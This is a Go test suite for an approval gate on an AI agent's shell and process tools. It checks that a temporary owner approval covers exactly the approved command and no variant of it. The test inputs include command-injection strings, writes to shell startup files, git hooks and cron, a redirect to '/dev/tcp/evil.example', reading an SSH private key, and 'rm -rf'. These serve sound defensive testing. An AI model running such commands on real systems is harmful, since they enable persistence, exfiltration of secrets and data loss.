package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"
)

// execWith is a command with other params of OpenClaw's exec.
func execWith(command, more string, context map[string]any) call {
	return call{tool: "exec", params: fmt.Sprintf(`{"command":%q,%s}`, command, more), context: context}
}

// exactly sends a call that needs a person, who says yes to exactly this for some minutes.
func (r *rig) exactly(c call, minutes int) (ref string) {
	r.t.Helper()
	ref = r.mustAsk(c).Ref
	if v := r.answerTo(map[string]any{"ref": ref, "allow": true, "exactly": true, "minutes": minutes}); v.Kind != "counted" || !strings.Contains(v.Text, "approved exactly this for") {
		r.t.Fatalf("%s: %+v", c.params, v)
	}
	r.allow(c)
	r.allow(c) // and again
	return ref
}

// asksAnew reports that a call is asked about, and says no to it.
func (r *rig) asksAnew(c call) {
	r.t.Helper()
	if a := r.mustAsk(c); a.Ref != "" {
		r.refuse(a.Ref, "")
	}
}

// TestH176AYesForAWhileIsForWhatTheCommandDoes: the owner allows git ls-files for half an hour.
func TestH176AYesForAWhileIsForWhatTheCommandDoes(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := ownerIn("main")
		r.allow(fetch(m))
		r.consented(sh("git ls-files --cached", m), 30)
		r.allow(sh("git ls-files -m -d -- a.go", m))
		r.allow(call{tool: "bash", params: `{"command":"git ls-files -m"}`, context: m}) // the same tool by another name
		if e := r.last(); e.By != "grant" || !strings.Contains(e.People[0].Says, `only "git ls-files"`) {
			t.Errorf("the record says %+v", e)
		}
		if v := r.reply(".grants"); !strings.Contains(v.Text, `"exec" only "git ls-files"`) {
			t.Errorf("the list says %q", v.Text)
		}
		for _, command := range []string{"git push", "git branch", "git checkout x", "git fetch", "curl https://example.com", "date", "sh log.sh"} {
			r.asksAnew(sh(command, m))
		}
		r.allow(sh("git ls-files", m))
		r.soundRecord()
	})
}

// TestH177ACommandThatRunsMoreIsNotCovered: the allowed command is there, and another comes with it.
func TestH177ACommandThatRunsMoreIsNotCovered(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := ownerIn("main")
		r.allow(fetch(m))
		r.consented(sh("git ls-files", m), 30)
		for _, command := range []string{
			"git ls-files; git push", "git ls-files && curl https://example.com", "git ls-files | sh", "git ls-files | head", "git ls-files $(git push)", "git ls-files `git push`", `git ls-files\ngit push`, "git ls-files & git push",
			"sudo git ls-files", "bash -c 'git ls-files'", "git() { git push; }; git ls-files", "alias git=./x; git ls-files", "GIT_PAGER=./x git ls-files", "git -c core.pager=./x ls-files", "git --git-dir=/tmp/x ls-files",
			"git -C /tmp/x ls-files", "cd /tmp/x && git ls-files", "./git ls-files", "eval git ls-files", "$G ls-files",
		} {
			r.asksAnew(sh(command, m))
		}
		for _, more := range []string{`"workdir":"/tmp/x"`, `"env":{"GIT_PAGER":"./x"}`, `"elevated":true`, `"host":"gateway"`, `"node":"phone"`, `"security":"full"`, `"ask":"off"`, `"pty":true`, `"background":true`} {
			r.asksAnew(execWith("git ls-files", more, m))
		}
		r.allow(execWith("git ls-files", `"timeout":9`, m))
	})
}

// TestH178ExactlyThisIsExactlyThis: the owner allows a push for half an hour.
func TestH178ExactlyThisIsExactlyThis(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := with(ownerIn("main"), "sessionId", "s1")
		r.allow(fetch(m))
		push := execWith("git push origin main", `"workdir":"/srv/app"`, m)
		ref := r.exactly(push, 30)
		for _, c := range []call{
			sh("git push origin main", m), sh("git push origin main:x", m), execWith("git push origin main ", `"workdir":"/srv/app"`, m),
			execWith("git push origin main", `"workdir":"/srv/app/"`, m), execWith("git push origin main", `"workdir":"/srv/other"`, m),
			execWith("git push origin main", `"workdir":"/srv/app","env":{"GIT_SSH":"./x"}`, m), execWith("git push origin main", `"workdir":"/srv/app","elevated":true`, m),
			execWith("git push origin main", `"workdir":"/srv/app","host":"node","node":"phone"`, m),
			{tool: "exec", params: push.params, context: with(m, "sessionId", "s2", "senderIsOwner", nil)}, {tool: "exec", params: push.params, context: with(unvouched("other"), "sessionId", "s1")},
			{tool: "exec", params: push.params, context: with(m, "sessionKey", "agent:main:sub", "senderIsOwner", nil)},
			{tool: "nodes", params: push.params, context: m},
		} {
			r.asksAnew(c)
		}
		r.allow(push)
		if v := r.reply(".grants"); !strings.Contains(v.Text, `"exec" only exactly the call of `+ref+"  in") {
			t.Errorf("the list says %q", v.Text)
		}

		r.reply(".pause main") // a pause wins
		if a := r.deny(push); !strings.Contains(a.Reason, "paused") {
			t.Errorf("under a pause: %s", a.raw)
		}
		r.reply(".resume main")
		r.allow(push)

		r.takes(event{name: "session_end", context: m, about: `{"reason":"new","nextSessionId":"s1"}`}) // /new ends it
		r.asksAnew(push)

		ref = r.exactly(execWith("git push origin topic", `"workdir":"/srv/app"`, m), 30) // and so does the owner
		r.reply(".revoke " + ref)
		r.asksAnew(execWith("git push origin topic", `"workdir":"/srv/app"`, m))
		r.soundRecord()
	})
	t.Run("it ends by its time", func(t *testing.T) {
		t.Parallel()
		r, clock := timeRig(t)
		r.exactly(sh("git push", unvouched("m")), 1)
		clock.pass(61 * time.Second)
		r.mustAsk(sh("git push", unvouched("m")))
	})
	t.Run("not where the conversation got worse, nor where the policy restricts", func(t *testing.T) {
		t.Parallel()
		r := newRig(t, nil)
		group := with(ownerIn("telegram:group:7"), "groupId", "7")
		r.exactly(sh("git log", group), 30)
		r.allow(call{tool: "web_search", params: `{"query":"x"}`, context: group})
		r.asksAnew(sh("git log", group))
		own := sh("verifier approve 7Q4K", group)
		if a := r.deny(own); a.Ref != "" && strings.Contains(a.Reason, "approval required") {
			t.Errorf("a restrict is asked about: %s", a.raw)
		}
	})
}

// TestH179AYesForAWhileWritesNowhereElse: the owner has allowed a command that writes a file of the workspace, or none.
func TestH179AYesForAWhileWritesNowhereElse(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := ownerIn("main")
		r.allow(fetch(m))
		r.consented(sh("git log > out.txt", m), 30)
		r.allow(sh("git log --stat > out.txt", m))
		r.allow(sh("git log", m)) // it does less
		for _, to := range []string{"> Makefile", "> ~/.bashrc", ">> .git/hooks/post-commit", "> /etc/cron.d/x", "> $X", "2> other.txt", "> out.txt > other.txt", "| tee other.txt", "--output=other.txt", "> /dev/tcp/evil.example/80", "> ../out.txt"} {
			r.asksAnew(sh("git log "+to, m))
		}
		r.asksAnew(sh("cat /etc/hosts > out.txt", m))
	})
}

// TestH180OneAnswerToACode: the code of a card that was answered gives nothing more.
func TestH180OneAnswerToACode(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := ownerIn("main")
		r.allow(fetch(m))
		r.mustAsk(sh("git ls-files", m))
		code := r.waits().code(t)
		if v := r.reply(".approve exec " + code + " exactly 5"); v.Kind != "counted" || !strings.Contains(v.Text, "exactly this for 5 minutes") {
			t.Errorf("told %+v", v)
		}
		for _, line := range []string{"", " 30", " turn", " exactly", " exactly 30", " like"} {
			if v := r.reply(".approve exec " + code + line); v.Kind != "too late" {
				t.Errorf("%q is told %+v", line, v)
			}
		}
		r.allow(sh("git ls-files", m))
		r.allow(sh("git ls-files", m))
		r.asksAnew(sh("git ls-files -m", m)) // no second answer made it wider
		if v := r.reply(".grants"); strings.Count(v.Text, "exec") != 1 {
			t.Errorf("the list says %q", v.Text)
		}
		for _, line := range []string{".approve all " + code + " exactly", ".approve exec " + code + " exactly exactly", ".approve exec " + code + " exactly 0", ".approve exec " + code + " 30 exactly", ".approve exec " + code + " exactlyy"} {
			if v := r.reply(line); v.Kind != "misunderstood" {
				t.Errorf("%q is told %+v", line, v)
			}
		}
	})
}

// TestH181WhatIsNotWhollySeenIsAllowedOnce: no lasting yes of any kind where the card hides something, or where the call can't be undone.
func TestH181WhatIsNotWhollySeenIsAllowedOnce(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		for i, command := range []string{
			"git push https://me:ghp_0123456789abcdef0123456789abcdef0123@example.com/x", "git push \u202eorigin", "git push " + strings.Repeat("x ", 9000), "git push --force", "rm -rf build", "cat ~/.ssh/id_ed25519",
		} {
			m := ownerIn(fmt.Sprint("m", i))
			r.allow(fetch(m))
			c := call{tool: "exec", params: fmt.Sprintf(`{"command":%q}`, command), context: m}
			r.mustAsk(c)
			card := r.waits()
			if strings.Contains(card.Text, "exactly") || strings.Contains(card.Text, "--minutes") {
				t.Errorf("the card offers a lasting yes:\n%s", card.Text)
			}
			v := r.answerTo(map[string]any{"ref": card.Ref, "allow": true, "exactly": true, "minutes": 30})
			if v.status != http.StatusOK || !strings.Contains(v.Text, "this call only") {
				t.Errorf("%.40s: told %+v", command, v)
			}
			r.allow(c)
			r.asksAnew(c)
		}
	})
}

// TestH182ACommandThatCouldDoAnythingIsAllowedExactly: thirty minutes for a script, a command that reaches the network, or text that is typed
// into a running program are thirty minutes for exactly that.
func TestH182ACommandThatCouldDoAnythingIsAllowedExactly(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		for i, c := range []struct{ yes, tool, later string }{
			{`{"command":"./run.sh one"}`, "exec", `{"command":"./run.sh two"}`},
			{`{"command":"curl https://example.com/a"}`, "exec", `{"command":"curl https://example.com/a -d @notes"}`},
			{`{"command":"ssh host uptime"}`, "exec", `{"command":"ssh host reboot"}`},
			{`{"command":"python a.py"}`, "exec", `{"command":"python -c 'import os'"}`},
			{`{"command":"npm run deploy"}`, "exec", `{"command":"npm run deploy -- --all"}`},
			{`{"command":"docker run a"}`, "exec", `{"command":"docker run b"}`},
			{`{"action":"write","sessionId":"p1","data":"y\n"}`, "process", `{"action":"write","sessionId":"p1","data":"n\n"}`},
			{`{"action":"submit","sessionId":"p1"}`, "process", `{"action":"write","sessionId":"p1","data":"y\n"}`},
		} {
			m := ownerIn(fmt.Sprint("m", i))
			r.allow(fetch(m))
			yes := call{tool: c.tool, params: c.yes, context: m}
			a := r.mustAsk(yes)
			if v := r.approve(a.Ref, 30); v.Kind != "counted" || !strings.Contains(v.Text, "exactly this for 30 minutes") || !strings.Contains(v.Text, "could do anything") {
				t.Errorf("%s: told %+v", c.yes, v)
			}
			r.allow(yes)
			r.allow(yes)
			r.asksAnew(call{tool: c.tool, params: c.later, context: m})
			r.asksAnew(sh("date", m))
		}
	})
}
